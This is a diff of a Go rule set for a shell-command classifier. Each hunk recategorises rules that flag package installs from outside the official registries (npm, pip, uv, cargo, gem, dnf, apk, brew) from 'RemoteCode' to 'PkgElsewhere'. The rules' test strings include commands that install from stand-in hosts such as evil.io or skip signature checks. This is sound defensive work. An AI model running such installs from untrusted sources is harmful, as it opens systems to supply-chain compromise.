@@ -88,13 +88,13 @@ var packagesPack = shell.RuleSet{
 		},
 		{
 			ID: "js-install-foreign", Cmd: "npm|pnpm|yarn|bun install|i|add|in|isntall|dlx|x|exec|create|init", Arg: "http://* https://* git+* git://* git@* ssh://* file:* github:* gitlab:* bitbucket:* gist:* *.tgz *.tar.gz",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs a package from outside the registry",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs a package from outside the registry",
 			Match:   []string{"npm install https://x.io/a.tgz", "npm i git+https://github.com/a/b", "pnpm add github:a/b"},
 			NoMatch: []string{"npm install lodash", "npm ci"},
 		},
 		{
 			ID: "js-install-registry", Cmd: "npm|pnpm|yarn|bun install|i|add|ci", Any: "--registry", Not: "--registry=https://registry.npmjs.org* --registry=https://registry.yarnpkg.com* --registry=http://localhost*",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs from another registry",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs from another registry",
 			Match:   []string{"npm install --registry http://x.io lodash", "npm i x --registry=https://evil.io"},
 			NoMatch: []string{"npm install lodash", "npm ci"},
 		},
@@ -198,19 +198,19 @@ var packagesPack = shell.RuleSet{
 		},
 		{
 			ID: "py-install-foreign", Cmd: "pip|pip2|pip3|pip3.8|pip3.9|pip3.10|pip3.11|pip3.12|pip3.13|pip3.14|pipx|easy_install install|download|wheel|inject|run|upgrade", Any: "-i --index-url --extra-index-url --trusted-host -f --find-links http://* https://* git+* *://*", Not: "--index-url=https://pypi.org/* --index-url=https://download.pytorch.org/* -i=https://pypi.org/* --extra-index-url=https://download.pytorch.org/* -f=https://download.pytorch.org/* --index-url=https://pypi.python.org/*",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs a package from outside the index",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs a package from outside the index",
 			Match:   []string{"pip install git+https://github.com/a/b", "pip install https://x.io/a.whl", "pip install --index-url http://x.io foo", "pip install -i http://x.io foo", "pip install --extra-index-url http://x foo"},
 			NoMatch: []string{"pip install requests", "pip install -r requirements.txt", "pip install --index-url https://download.pytorch.org/whl/cpu torch"},
 		},
 		{
 			ID: "uv-install-foreign", Cmd: "uv pip|tool|add install|run|sync", Any: "-i --index-url --extra-index-url --index --default-index http://* https://* git+* *://*",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs a package from outside the index",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs a package from outside the index",
 			Match:   []string{"uv pip install git+https://github.com/a/b", "uv pip install --index-url http://x foo"},
 			NoMatch: []string{"uv pip install requests", "uv pip sync requirements.txt"},
 		},
 		{
 			ID: "uv-add-foreign", Cmd: "uv|poetry|pdm|pipenv|rye add|install", Arg: "http://* https://* git+* *://*",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "adds a package from outside the index",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "adds a package from outside the index",
 			Match:   []string{"uv add git+https://github.com/a/b", "poetry add https://x.io/a.whl"},
 			NoMatch: []string{"uv add requests", "poetry install"},
 		},
@@ -308,7 +308,7 @@ var packagesPack = shell.RuleSet{
 		},
 		{
 			ID: "cargo-install-foreign", Cmd: "cargo install|add", Any: "--git --registry --index",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs a program from outside the registry",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs a program from outside the registry",
 			Match:   []string{"cargo install --git https://github.com/a/b", "cargo add --git https://x foo"},
 			NoMatch: []string{"cargo install ripgrep", "cargo install --path ."},
 		},
@@ -356,7 +356,7 @@ var packagesPack = shell.RuleSet{
 		},
 		{
 			ID: "gem-foreign", Cmd: "gem install|sources", Any: "--source -s --add -a --remove -r",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs from another source",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs from another source",
 			Match:   []string{"gem install x --source http://y", "gem sources --add http://y"},
 			NoMatch: []string{"gem install x", "gem sources"},
 		},
@@ -562,7 +562,7 @@ var packagesPack = shell.RuleSet{
 		},
 		{
 			ID: "dnf-install-foreign", Cmd: "dnf|yum|microdnf|tdnf|zypper|dnf5 install|in|localinstall", Any: "--nogpgcheck --allowerasing *://* --no-gpg-checks --force-resolution",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs packages without checks or from elsewhere",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs packages without checks or from elsewhere",
 			Match:   []string{"dnf install --nogpgcheck x", "yum install https://x.io/a.rpm", "dnf install --allowerasing x"},
 			NoMatch: []string{"dnf install git"},
 		},
@@ -640,7 +640,7 @@ var packagesPack = shell.RuleSet{
 		},
 		{
 			ID: "apk-foreign", Cmd: "apk add", Any: "--allow-untrusted -X --repository",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs packages without checks or from elsewhere",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs packages without checks or from elsewhere",
 			Match:   []string{"apk add --allow-untrusted x.apk", "apk add -X http://x y"},
 			NoMatch: []string{"apk add curl"},
 		},
@@ -688,7 +688,7 @@ var packagesPack = shell.RuleSet{
 		},
 		{
 			ID: "brew-foreign", Cmd: "brew install|reinstall|tap", Any: "*://*",
-			Label: shell.Unknown, Kind: "install", Category: shell.RemoteCode, Radius: shell.RadiusMedium, Reason: "installs from elsewhere",
+			Label: shell.Unknown, Kind: "install", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "installs from elsewhere",
 			Match:   []string{"brew install https://x.io/a.rb", "brew tap a/b https://x.io/y"},
 			NoMatch: []string{"brew install jq"},
 		},
